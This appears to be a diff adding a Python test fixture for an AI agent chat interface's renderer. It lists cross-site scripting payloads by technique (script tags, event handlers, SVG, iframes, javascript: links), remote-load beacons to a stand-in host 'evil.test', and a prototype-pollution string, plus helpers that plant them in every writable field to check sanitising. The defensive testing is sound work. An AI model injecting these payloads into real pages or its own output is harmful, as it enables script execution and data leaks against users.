@@ -1,0 +1,111 @@
+"""What a hostile model, tool or server may write, one per technique, and every place that they can write to.
+
+`fired` is a function of the test page; `evil.test` stands for somebody else's machine. With the view built
+without its sanitising each of them works, in the place where it is meant to.
+"""
+
+import json
+from urllib.parse import quote
+
+from agentmagic.events import (
+    ApprovalAsked,
+    ApprovalGiven,
+    Event,
+    Notice,
+    PromptAdded,
+    QuestionAnswered,
+    QuestionAsked,
+    StepRetried,
+    StepStarted,
+    ToolProgress,
+    ToolStarted,
+)
+from agentmagic.messages import Media, Resource, Text, ToolCall, ToolResult, user
+from tests.render.logs import asked_for, carried_out, over, reasoning, started, step_over, text
+
+TECHNIQUES = {
+    "script": "<script>fired('script')</script>",
+    "handler": "<img src=x onerror=\"fired('handler')\">",
+    "toggle": "<details open ontoggle=\"fired('toggle')\">x</details>",
+    "focus": "<input autofocus onfocus=\"fired('focus')\">",
+    "animation": "<style>@keyframes q{}</style><b style='animation:q 1ms' onanimationstart=\"fired('animation')\">x</b>",
+    "svg": "<svg><animate onbegin=\"fired('svg')\" attributeName=x dur=1s></animate></svg>",
+    "svg link": "<svg><a href=\"javascript:fired('svg link')\"><text y=20>press</text></a></svg>",
+    "svg image": "<svg><image href='http://evil.test/svg-image'/></svg>",
+    "mathml": "<math><mtext><img src=x onerror=\"fired('mathml')\"></mtext></math>",
+    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=fired('noscript')>\"></noscript>",
+    "frame": "<iframe srcdoc=\"<script>parent.fired('frame')</script>\"></iframe>",
+    "data frame": "<iframe src=\"data:text/html,<script>parent.postMessage('data frame','*')</script>\"></iframe>",
+    "object": "<object data='http://evil.test/object'></object>",
+    "form": "<form action='http://evil.test/form'><button>press</button></form>",
+    "base": "<base href='http://evil.test/'><img src='base'>",
+    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.test/refresh'>",
+    "style sheet": "<style>@import url(http://evil.test/style-sheet);</style>",
+    "linked style sheet": "<link rel=stylesheet href='http://evil.test/linked-style-sheet'>",
+    "css": "<p style=\"background:url('http://evil.test/css')\">x</p>",
+    "video": "<video src='http://evil.test/video'></video>",
+    "remote image": "![x](http://evil.test/remote-image)",
+    "remote image, html": "<img srcset='http://evil.test/remote-image-html 1x'>",
+    "maths": "$\\includegraphics{http://evil.test/maths}$",
+    "script link": "[press](javascript:fired('script%20link'))",
+    "data link": "<iframe name=f></iframe><a target=f href=\"data:text/html,<script>parent.postMessage('data link','*')"
+    '</script>">press</a>',
+}
+"""Payloads by technique; those with "press" in them want to be clicked."""
+
+POLLUTION = '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, "hasOwnProperty": 1}'
+
+PLACES = (
+    "prompt, added prompt, text, reasoning, tool, server, argument, value, nested value, result, JSON key, JSON value, "
+    "column, cell, resource, progress, waiting tool, waiting server, waiting argument, waiting value, reason, notice, "
+    "warning, question, open question, answer, retry, error, model, title, cost, note, model list, server row, "
+    "server state, server error, stderr, server tool, problem"
+).split(", ")
+
+
+class Marked(dict[str, str]):
+    """Returns the payload of a place, and keeps account of the places that were used."""
+
+    def __init__(self, payload: str) -> None:
+        self._payload = payload
+
+    def __missing__(self, place: str) -> str:
+        self[place] = self._payload.replace("PLACE", quote(place))
+        return self[place]
+
+
+def everywhere(at: Marked) -> list[Event]:
+    """Return a conversation with a payload in every place that others can write to."""
+    nested = {"deep": [at["nested value"], "long enough to be spread over several lines of a card"]}
+    call = ToolCall("c1", at["tool"], {at["argument"]: at["value"], "nested": nested})
+    tree = json.dumps({at["JSON key"]: [at["JSON value"]], "why": {"it": "is long enough to need several lines"}})
+    table = json.dumps([{at["column"]: at["cell"]}])
+    parts = (Text(at["result"]), Text(tree), Text(table), Resource("a:b", at["resource"], text=at["resource"]))
+    images = (Media("image/png", b"x", at["result"]), Media(at["result"], b"x", at["result"]))
+    denied = ToolCall("c2", "denied", {})
+    waiting = ToolCall("c3", at["waiting tool"], {at["waiting argument"]: at["waiting value"]})
+    return [
+        *[*started(at["prompt"]), *text(at["text"], 0), *reasoning(at["reasoning"], 1), *asked_for(call, 2)],
+        *[*asked_for(denied, 3), *step_over()],
+        *carried_out(call, ToolResult("c1", at["tool"], (*parts, *images)), at["server"]),
+        *[ApprovalAsked("a0", denied, "shop"), ApprovalGiven("a0", approved=False, reason=at["reason"])],
+        *[Notice("info", at["notice"]), Notice("warning", at["warning"]), PromptAdded(user(at["added prompt"]))],
+        *[QuestionAsked("q0", at["question"]), QuestionAnswered("q0", at["answer"])],
+        *[StepStarted(2, "model"), StepRetried(2, 1, 1.0, at["retry"]), *over("", "error", at["error"])],
+        *[*started("again"), *asked_for(ToolCall("c4", "slow", {}), 0), *asked_for(waiting, 1), *step_over()],
+        *[ToolStarted(ToolCall("c4", "slow", {}), "shop"), ToolProgress("c4", 1, 2, at["progress"])],
+        *[ApprovalAsked("a1", waiting, at["waiting server"]), QuestionAsked("q1", at["open question"])],
+    ]
+
+
+def around(at: Marked) -> dict[str, object]:
+    """Return a session's state with a payload in every place."""
+    row = {"name": at["server row"], "state": at["server state"], "error": at["server error"], "stderr": at["stderr"]}
+    return {
+        "title": at["title"],
+        "cost": at["cost"],
+        "note": at["note"],
+        "model": at["model"],
+        "models": [at["model list"]],
+        "servers": [{**row, "tools": [(at["server tool"], True)]}],
+    }
